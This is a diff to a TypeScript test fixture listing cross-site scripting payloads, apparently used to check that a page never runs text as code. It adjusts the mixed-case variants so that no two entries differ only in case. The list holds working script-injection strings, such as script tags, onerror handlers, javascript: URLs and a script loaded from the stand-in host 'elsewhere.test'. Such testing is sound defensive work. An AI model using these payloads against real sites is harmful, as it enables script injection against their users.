@@ -1,11 +1,11 @@
 /**
  * Ways to make a page run what was meant as text, of every well-known kind. Each calls `__ran()`, opens a dialog or
- * leaves for `elsewhere.test` if it gets its way. None is longer than the shortest name that the house takes.
+ * leaves for `elsewhere.test` if it gets its way. None is too long for a name, and no two differ only in case.
  */
 export const payloads: readonly string[] = [
   // Elements that run
   '<script>__ran()</script>',
-  '<ScRiPt>__ran()</sCrIpT>',
+  '<ScRiPt>__ran();</sCrIpT>',
   '<script src=//elsewhere.test/x.js></script>',
   '<script type=module>__ran()</script>',
   '<script/x>__ran()</script >',
@@ -25,7 +25,7 @@ export const payloads: readonly string[] = [
   // Events of elements
   '<img src=x onerror=__ran()>',
   '<img src=x onerror="__ran()">',
-  '<IMG SRC=x OnErRoR=__ran()>',
+  '<IMG SRC=x OnErRoR=__ran();>',
   '<img/src=x/onerror=__ran()>',
   '<img src onerror=__ran() //',
   '<img src=x onerror=alert(1)>',
@@ -72,7 +72,7 @@ export const payloads: readonly string[] = [
   '" style="animation:x" onanimationstart="__ran()',
   // Addresses that run
   'javascript:__ran()',
-  'JaVaScRiPt:__ran()',
+  'JaVaScRiPt:__ran();',
   'javascript://elsewhere.test/%0a__ran()',
   'javascript:/*"/*\'/*`/*--></script>*/__ran()',
   'java\tscript:__ran()',
